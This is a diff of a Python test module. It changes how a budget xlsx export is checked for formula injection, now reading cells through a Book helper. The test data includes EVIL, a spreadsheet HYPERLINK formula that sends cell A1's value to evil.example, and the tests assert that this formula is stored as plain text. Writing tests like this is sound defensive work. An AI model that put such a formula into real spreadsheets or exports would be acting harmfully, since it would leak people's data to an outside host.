@@ -2,7 +2,6 @@
 
 import csv
 import io
-import zipfile
 from datetime import date
 from decimal import Decimal
 
@@ -14,6 +13,7 @@ from maatwerk.core.csv_export import inert, writer
 from maatwerk.decisions.models import Budget
 
 from .factories import TeamFactory, user_with_role
+from .test_core_xlsx import Book
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'
 
@@ -70,9 +70,10 @@ def test_budget_csv_writes_a_formula_team_name_as_text(client, evil_team_lead):
 
 
 def test_budget_xlsx_has_no_formulas(client, evil_team_lead):
-    """The xlsx writer stores text as inline strings, which Excel never evaluates."""
+    """Text is written as a text cell (a shared string), which Excel never evaluates."""
     client.force_login(evil_team_lead)
     response = client.get(reverse("decisions:budgets_xlsx"))
-    sheet = zipfile.ZipFile(io.BytesIO(response.content)).read("xl/worksheets/sheet1.xml")
-    assert b"<f>" not in sheet and b"<f " not in sheet
-    assert b't="inlineStr"><is><t xml:space="preserve">=HYPERLINK(' in sheet
+    book = Book(response.content)
+    assert "<f>" not in book.sheet_xml and "<f " not in book.sheet_xml
+    team = book.cell("B2")
+    assert team["type"] == "s" and team["value"] == EVIL and not team["formula"]
